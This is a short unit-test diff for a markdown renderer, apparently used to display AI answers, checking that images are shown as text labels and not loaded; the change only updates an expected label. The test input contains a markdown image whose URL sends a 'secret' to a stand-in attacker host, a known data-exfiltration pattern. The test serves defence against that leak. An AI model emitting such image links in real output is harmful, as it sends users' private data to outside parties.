@@ -160,7 +160,7 @@ describe('the links of an answer', () => {
 		const root = show('![a map](https://evil.example/?q=secret) ![](/logo.png)');
 		expect(root.querySelector('img')).toBeNull();
 		expect([...root.querySelectorAll('.md-image')].map((link) => link.textContent)).toEqual([
-			'a mapevil.example',
+			'Image: a mapevil.example',
 			'Image',
 		]);
 	});
